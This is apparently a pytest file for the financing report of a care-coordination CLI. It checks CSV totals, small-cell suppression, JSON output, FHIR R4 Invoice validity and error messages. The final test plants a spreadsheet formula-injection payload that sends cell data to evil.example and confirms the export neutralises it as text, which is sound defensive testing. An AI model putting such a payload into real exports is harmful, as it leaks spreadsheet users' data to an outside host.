"""``careflow report financing``: CSV on stdout, --json, --fhir (a valid R4 Invoice), one line on bad input."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import orjson
import pytest
from engine_world import HEART_FAILURE, add_patient, add_team
from fhir.resources.R4B import get_fhir_model_class

from careflow.access.principal import SYSTEM
from careflow.cli import main
from careflow.engine import enrolment
from careflow.fhir.r4_schema import r4_errors
from careflow.fhir.validation import validate_resource
from careflow.region.consent import sharing_consent
from careflow.store.database import open_repository

START = (2025, 3, 1)


@pytest.fixture
def url(tmp_path: Path, heart_failure: Any) -> str:
    from datetime import date

    url = f"sqlite:///{tmp_path / 'fin.db'}"
    repo = open_repository(url)
    roles = add_team(repo)
    start = date(*START)
    for n in range(6):  # six patients: the team's line, and a group of six is not suppressed
        pid = f"cli-{n}"
        add_patient(repo, pid, conditions=[HEART_FAILURE], onset=start - timedelta(days=400), gp_role=roles["gp"][0],
                    group="C" if n < 5 else "A")
        with repo.unit_of_work(SYSTEM) as uow:
            uow.create_if_absent(sharing_consent(resource_id=f"consent-{pid}", patient_ref=f"Patient/{pid}",
                                                 gp_ref=f"PractitionerRole/{roles['gp'][0]}", given=start))
        enrolment.enrol(repo, {"heart-failure": heart_failure}, [pid], start + timedelta(days=n))
    repo.close()
    return url


def test_csv_lines_add_up(url: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["report", "financing", "--year", "2025", "--db", url]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[0] == ["team", "enrolled_patients", "patient_days", "amount_eur"]
    # enrolled 1..6 March: 306 + 305 + ... + 301 days
    assert rows[1] == ["Buurtteam Binnenstad", "6", str(306 + 305 + 304 + 303 + 302 + 301), rows[1][3]]
    per_patient = [(Decimal(100) * d / 365).quantize(Decimal("0.01")) for d in range(301, 307)]
    assert Decimal(rows[1][3]) == sum(per_patient)
    assert rows[-1] == ["total", "6", rows[1][2], rows[1][3]]


def test_breakdown_by_group_suppresses_small_cells(url: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["report", "financing", "--year", "2025", "--db", url, "--by", "group"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[0] == ["team", "group", "enrolled_patients", "patient_days", "amount_eur"]
    assert rows[1] == ["Buurtteam Binnenstad", "A", "<5", "", ""]
    assert rows[2][:3] == ["Buurtteam Binnenstad", "C", "5"]


def test_json(url: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["report", "financing", "--year", "2025", "--db", url, "--json"]) == 0
    data = orjson.loads(capsys.readouterr().out)
    assert data["period"] == {"start": "2025-01-01", "end": "2025-12-31"}
    assert data["rate_eur_per_year"] == "100.00"
    (team,) = data["teams"]
    assert team["team"] == "Organization/team-binnenstad" and team["enrolled_patients"] == 6
    assert data["total"]["amount_eur"] == team["amount_eur"]


def test_fhir_invoice_is_valid_r4(url: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["report", "financing", "--year", "2025", "--db", url, "--fhir"]) == 0
    invoice = orjson.loads(capsys.readouterr().out)
    assert r4_errors(invoice) == []
    validate_resource(invoice, "Invoice")
    get_fhir_model_class("Invoice").model_validate(invoice)
    assert invoice["status"] == "issued"  # 2025 is over
    (line,) = invoice["lineItem"]
    assert line["priceComponent"][0]["amount"] == invoice["totalNet"]
    assert invoice["participant"][0]["actor"]["reference"] == "Organization/team-binnenstad"


@pytest.mark.parametrize("args, message", [
    (["--year", "20x5"], "--year '20x5' is not a year like 2026"),
    (["--year", "2025", "--as-of", "yesterday"], "--as-of 'yesterday' is not a date"),
    (["--year", "2025", "--by", "street"], "--by 'street' is not group or practice"),
    (["--year", "2025", "--db", "nonsense://x"], "unsupported database 'nonsense'"),
])
def test_bad_input_is_one_line(args: list[str], message: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["report", "financing", *args]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("careflow: error: ") and message in err


def test_as_of_before_anything_was_recorded_pays_nothing(url: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["report", "financing", "--year", "2025", "--db", url, "--as-of", "2025-12-31"]) == 0
    assert capsys.readouterr().out.splitlines()[-1] == "total,0,0,0.00"


def test_a_name_that_looks_like_a_formula_stays_text(url: str, capsys: pytest.CaptureFixture[str]) -> None:
    repo = open_repository(url)
    with repo.unit_of_work(SYSTEM) as uow:
        team = uow.read("Organization", "team-binnenstad")
        uow.update({**(team.resource or {}), "name": '=HYPERLINK("https://evil.example/?"&A1,"open")'},
                   if_match=team.version)
    repo.close()
    assert main(["report", "financing", "--year", "2025", "--db", url]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[1][0] == '\'=HYPERLINK("https://evil.example/?"&A1,"open")'  # shown as text by a spreadsheet
